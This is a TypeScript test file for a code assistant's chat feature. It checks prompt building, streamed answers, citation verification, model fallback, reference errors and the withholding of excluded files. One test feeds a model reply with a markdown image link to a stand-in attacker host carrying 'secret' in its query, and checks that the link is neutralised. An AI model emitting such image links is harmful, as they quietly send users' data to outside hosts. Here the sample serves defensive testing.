import { describe, expect, test } from 'vitest';

import { neverAborted } from '../../../server/base/cancellation.ts';
import { TextDocument } from '../../../server/base/text-document.ts';
import { Chat } from '../../../server/features/chat/chat.ts';
import type { ChatRequest } from '../../../server/features/chat/chat-request.ts';
import { memoryProject } from '../../support/memory-project.ts';
import { type BenchOptions, ChatModel, chatBench, questionOf } from './chat-bench.ts';

const project = memoryProject(
  {
    'src/cart.ts': `import { rateOf } from './tax.ts';

export class Cart {
  total(sum: number): number {
    return sum * rateOf('book');
  }
}
`,
    'src/tax.ts': `export const base = 0.2;

export function rateOf(kind: string): number {
  return kind === 'book' ? 1.07 : 1 + base;
}
`,
    'talk.chat.md': 'What is taxed?\n',
    'src/odd.md': 'A fence:\n```ts\nrateOf\n```\n',
    '.env': 'KEY=1\n',
  },
  { excluded: ['.env'] },
);

async function check(message: string, options: BenchOptions = {}, rest: Partial<ChatRequest> = {}) {
  const bench = chatBench(project, options);
  let streamed = '';
  const request = questionOf(message, rest);
  const answer = await bench.chat.answer(
    request,
    (text) => {
      streamed += text;
    },
    neverAborted,
  );
  return { ...bench, answer, streamed };
}

function promptOf(model: ChatModel): string {
  const messages = model.asked[0]?.messages ?? [];
  return messages.flatMap(({ content }) => content.parts.map(({ text }) => text)).join('');
}

describe('with a model', () => {
  test('chat documents, which hold questions like this one, are neither shown nor missed', async () => {
    const model = new ChatModel('first', 'Books.');
    const place = { uri: project.at('other.chat.md'), path: 'other.chat.md', startLine: 0, endLine: 1 };
    const dropped = {
      ...place,
      reason: 'is like it',
      retriever: 'words',
      score: 20,
      why: 'not-tracked',
    } as const;
    const { streamed } = await check('Which goods are taxed?', {
      models: [model],
      found: { 'talk.chat.md:1': 'is like it', 'src/tax.ts:4': 'returns the rate' },
      bundle: { dropped: [dropped] },
      unsendable: ['talk.chat.md'],
    });
    expect(streamed).toBe('Books.');
    expect(promptOf(model)).toContain('src/tax.ts');
    expect(promptOf(model)).not.toContain('talk.chat.md');
  });

  test('the answer is streamed as it comes, and comes back with its facts', async () => {
    const { answer, streamed } = await check('What is taxed?', {
      models: [new ChatModel('first', 'Books, ', 'see src/tax.ts:4.')],
    });
    expect(streamed).toBe('Books, see src/tax.ts:4.');
    expect(answer).toEqual({
      content: 'Books, see src/tax.ts:4.',
      citations: [
        {
          text: 'src/tax.ts:4',
          uri: project.at('src/tax.ts'),
          startLine: 3,
          endLine: 4,
          isVerified: true,
          problem: undefined,
        },
      ],
      usage: { promptTokens: 100, cachedTokens: undefined, completionTokens: 7 },
      model: 'first',
      traceId: 'trace-1',
      marks: [],
    });
  });

  test('images and links to other machines come back harmless', async () => {
    const hostile = 'See ![x](https://evil.example/?q=secret) and [y](https://evil.example).';
    const { answer } = await check('?', { models: [new ChatModel('m', hostile)] });
    expect(answer.content).toBe(
      'See ![x\\](https://evil.example/?q=secret) and [y\\](https://evil.example).',
    );
  });

  test('wrong citations are marked in what comes back, not in the stream', async () => {
    const { answer, streamed } = await check('?', {
      models: [new ChatModel('m', '`rateOf` is at src/cart.ts:3.')],
    });
    expect(streamed).toBe('`rateOf` is at src/cart.ts:3.');
    expect(answer.content).toBe(
      '`rateOf` is at src/cart.ts:3 (unverified: no `rateOf` in this line; it is at src/tax.ts:3-5).',
    );
  });

  test('a stream that breaks keeps what came and says so', async () => {
    const { answer, failures } = await check('?', {
      models: [new ChatModel('m', 'Books\n```ts\ncode', 'fails'), new ChatModel('other', 'no')],
    });
    expect(answer.content).toMatchInlineSnapshot(`
      "Books
      \`\`\`ts
      code
      \`\`\`

      > The answer breaks off here: h failed to answer for "m" (500). Look at the server's own log; until it works the next model of the route answers.
      "
    `);
    expect(failures).toHaveLength(1);
  });

  test('an answer that was cut says so', async () => {
    const { answer } = await check('?', { models: [new ChatModel('m', 'Books', 'cut')] });
    expect(answer.content).toBe(
      'Books\n\n> The answer was cut because it became too long. Ask it to go on.\n',
    );
  });

  test('the next model of the route answers when one fails before its first word', async () => {
    const { answer } = await check('?', {
      models: [new ChatModel('first', 'fails'), new ChatModel('second', 'Yes.')],
    });
    expect(answer).toMatchObject({ content: 'Yes.', model: 'second' });
  });

  test('roles alternate, whatever turns the editor brings', async () => {
    const model = new ChatModel('m', 'Yes.');
    const turns = [
      { role: 'assistant', content: 'Hello.' },
      { role: 'user', content: 'One?' },
      { role: 'user', content: 'Two?' },
      { role: 'assistant', content: 'Three.' },
      { role: 'user', content: 'Four?' },
    ] as const;
    await check('Five?', { models: [model] }, { turns });
    expect(model.asked[0]?.messages.map(({ role }) => role)).toEqual(['system', 'user', 'assistant', 'user']);
    expect(promptOf(model)).toContain('Four?\n\nFive?');
  });

  test('a text with thousands of references is looked up once each, and not all of it', async () => {
    const model = new ChatModel('first', 'Fine.');
    const bench = chatBench(project, { models: [model] });
    let diffs = 0;
    const workingTree = {
      changes: async () => {
        diffs += 1;
        return { files: [], left: 0 };
      },
    };
    const names = Array.from({ length: 60 }, (_, at) => `@no/${at}.ts`).join(' ');
    const message = `${'@diff #rateOf '.repeat(1_000)} ${names}`;
    const chat = new Chat({ ...bench.ports, workingTree });
    const { content } = await chat.answer(questionOf(message), () => undefined, neverAborted);
    expect(diffs).toBe(1);
    expect(content).toContain('22 more references of the question were not looked up.');
  });

  test('the diff, the problems and lines that the editor names are shown', async () => {
    const model = new ChatModel('m', 'Yes.');
    const changes = [
      { uri: project.at('src/tax.ts'), path: 'src/tax.ts', before: 'a\nb\n', after: 'a\nc\n' },
    ];
    const problem = {
      message: 'is not\n used',
      severity: 'warning',
      code: '6133',
      source: 'ts',
      startLine: 3,
      endLine: 4,
    } as const;
    const references = [{ uri: project.at('src/cart.ts'), lines: { startLine: 3, endLine: 4 } }];
    await check(
      'What of @diff and @problems?',
      { models: [model], changes, problems: [{ ...problem, uri: project.at('src/cart.ts') }] },
      { references },
    );
    expect(promptOf(model).split('links to other hosts.')[1]).toMatchInlineSnapshot(`
      "src/tax.ts (changed since the last commit)
      \`\`\`
      diff --git a/src/tax.ts b/src/tax.ts
      --- a/src/tax.ts
      +++ b/src/tax.ts
      @@ -1,2 +1,2 @@
       a
      -b
      +c
      \`\`\`

      src/cart.ts (problems that the editor shows)
      \`\`\`
      src/cart.ts:4 warning: is not used [ts 6133]
      \`\`\`

      src/cart.ts:2-6 (lines with problems)
      \`\`\`
      2 | 
      3 | export class Cart {
      4 |   total(sum: number): number {
      5 |     return sum * rateOf('book');
      6 |   }
      \`\`\`

      What of @diff and @problems?"
    `);
  });

  test('every part of a file is sent with its name, so that policy can be asked', async () => {
    const model = new ChatModel('m', 'Yes.');
    const changes = [
      { uri: project.at('src/odd.md'), path: 'src/odd.md', before: 'KEY\n', after: undefined },
    ];
    const found = { 'src/cart.ts:1-7': 'uses rateOf' };
    await check('@src/tax.ts and @diff', { models: [model], changes, found });
    const parts = model.asked[0]?.messages.flatMap(({ content }) => content.parts) ?? [];
    const own = parts
      .filter(({ uri }) => uri === undefined)
      .map(({ text }) => text)
      .join('');
    for (const line of ['base = 0.2', 'class Cart', '-KEY']) {
      expect(promptOf(model)).toContain(line);
      expect(own).not.toContain(line);
    }
  });

  test('a short question is looked for with the words of the ones before it', async () => {
    const turns = [
      { role: 'user', content: 'How are carts taxed?' },
      { role: 'assistant', content: 'So.' },
    ] as const;
    const { queries } = await check('And why?', { models: [new ChatModel('m', 'Yes.')] }, { turns });
    expect(queries).toEqual(['And why?\nHow are carts taxed?']);
    const long = await check(
      'Where does rateOf compute the base of books?',
      { models: [new ChatModel('m', 'Yes.')] },
      { turns },
    );
    expect(long.queries).toEqual(['Where does rateOf compute the base of books?']);
  });

  test('references are no words to look for, but names of symbols are', async () => {
    const { queries } = await check('Does @src/cart.ts call #rateOf, by @tests or @diff, for every item?', {
      models: [new ChatModel('m', 'Yes.')],
    });
    expect(queries).toEqual(['Does  call #rateOf, by  or , for every item?']);
  });

  test('an engine that hangs is not waited for, and the answer says so', async () => {
    const bench = chatBench(project, { models: [new ChatModel('m', 'Yes.')] });
    const hanging = {
      ...bench.ports,
      context: { ...bench.ports.context, gather: () => new Promise<never>(() => undefined) },
    };
    const answer = new Chat(hanging).answer(questionOf('?'), () => undefined, neverAborted);
    while (bench.clock.sleeping === 0) await Promise.resolve();
    bench.clock.advance(1_000);
    expect((await answer).content).toBe(
      'Yes.\n\n> The index did not answer in time, so the model has seen only what the question points at.\n',
    );
  });

  test('cancelling stops the model and rejects with the reason', async () => {
    const model = new ChatModel('m', 'Books', { until: new Promise(() => undefined) });
    const { chat } = chatBench(project, { models: [model] });
    const controller = new AbortController();
    const answer = chat.answer(
      questionOf('?'),
      () => controller.abort(new Error('enough')),
      controller.signal,
    );
    await expect(answer).rejects.toThrow('enough');
    expect(model.stopped).toBe(1);
  });
});

describe('references that mean nothing leave a line', () => {
  test.each([
    ['@src/taxi.ts', 'There is no file src/taxi.ts; did you mean src/tax.ts?'],
    ['@.env', '.env was not read: a rule excludes it.'],
    ['@src/tax.ts:90-99', 'src/tax.ts has no lines 90-99.'],
    ['#rateOff', 'Nothing is called rateOff.'],
    ['#rate', 'Nothing is called rate; there is rateOf (src/tax.ts:3).'],
    ['@symbol Cart.rateOf', 'Nothing is called Cart.rateOf; there is rateOf (src/tax.ts:3).'],
    ['@diff', 'No file that git tracks has changed since the last commit.'],
    ['@problems', 'The editor shows no problems.'],
    ['@selection', 'Nothing is selected; write `@path:10-20` for lines of a file.'],
    ['@tests', '`@tests` means the tests of a file: name one, such as `@src/cart.ts @tests`.'],
    ['@src/tax.ts @tests', 'No file is named like a test of src/tax.ts.'],
  ])('%s', async (message, remark) => {
    const { answer } = await check(`What is ${message}`, { models: [new ChatModel('m', 'Yes.')] });
    expect(answer.content).toBe(`> ${remark}\n\nYes.`);
  });
});

describe('without a model', () => {
  const found = { 'src/tax.ts:1-5': 'defines rateOf; has book', 'src/odd.md:1-4': 'has *rateOf*' };

  test('the answer is what the index finds, cited and with the lines that tell most', async () => {
    const { answer, streamed } = await check('How is rateOf of a book computed?', { found });
    expect(answer.content).toMatchInlineSnapshot(`
      "No model is connected, so this is what the index finds, best first. For an answer in words, name a model in "routes.chat" of your settings; \`innerloop doctor\` shows which models this machine has.

      1. \`src/tax.ts:3-5\`: defines rateOf; has book

      \`\`\`typescript
      export function rateOf(kind: string): number {
        return kind === 'book' ? 1.07 : 1 + base;
      }
      \`\`\`

      2. \`src/odd.md:3-4\`: has \\*rateOf\\*

      \`\`\`\`
      rateOf
      \`\`\`
      \`\`\`\`
      "
    `);
    expect(answer.citations.map(({ isVerified }) => isVerified)).toEqual([true, true]);
    expect(answer).toMatchObject({ model: undefined, usage: undefined });
    expect(streamed).toBe(answer.content);
  });

  test('what the question points at comes first', async () => {
    const { answer } = await check('What does @src/cart.ts:4-7 do with rateOf?', { found });
    expect(answer.content).toContain('1. `src/cart.ts:5-7`: named in the question');
  });

  test('changes that the question points at are shown, too', async () => {
    const changes = [{ uri: project.at('src/tax.ts'), path: 'src/tax.ts', before: 'a\n', after: 'b\n' }];
    const { answer } = await check('What is in @diff?', { changes });
    expect(answer.content).toContain('1. `src/tax.ts`: changed since the last commit\n\n```\ndiff --git');
    expect(answer.content).toContain('\n-a\n+b\n');
  });

  test('nothing found says so, and what to try', async () => {
    const { answer } = await check('unicorns');
    expect(answer.content).toContain(
      'The index finds nothing for these words. Try names that stand in the code',
    );
  });

  test('nothing found while files are being read says that', async () => {
    const { answer } = await check('unicorns', { bundle: { isComplete: false } });
    expect(answer.content).toContain(
      'Not all files of the workspace were read yet, so ask again in a moment.',
    );
  });

  test('lines that no model may be shown stand in no conversation', async () => {
    const { answer } = await check('base', { found, unsendable: ['src/tax.ts'] });
    expect(answer.content).toContain('`src/tax.ts:1-5`: its lines are not shown');
    expect(answer.content).not.toContain('0.2');
  });

  test('models that all fail are named with the reason', async () => {
    const { answer } = await check('base', { found, models: [new ChatModel('m', 'fails')] });
    expect(answer.content).toMatch(
      /^No model has answered: .*500.* So this is what the index finds, best first\.\n/,
    );
    expect(answer.content).toContain('src/tax.ts:1');
  });

  test('a model that says nothing counts as none', async () => {
    const { answer } = await check('base', { found, models: [new ChatModel('mute')] });
    expect(answer.content).toContain('No model has answered (mute).');
  });
});

test('of a file that the person looks at only the name is told', async () => {
  const model = new ChatModel('m', 'Yes.');
  const document = new TextDocument(
    { uri: project.at('src/cart.ts'), languageId: 'typescript', version: 1 },
    'secret',
  );
  await check('?', { models: [model] }, { document });
  expect(promptOf(model)).toContain('The programmer looks at src/cart.ts.');
  expect(promptOf(model)).not.toContain('secret');
});
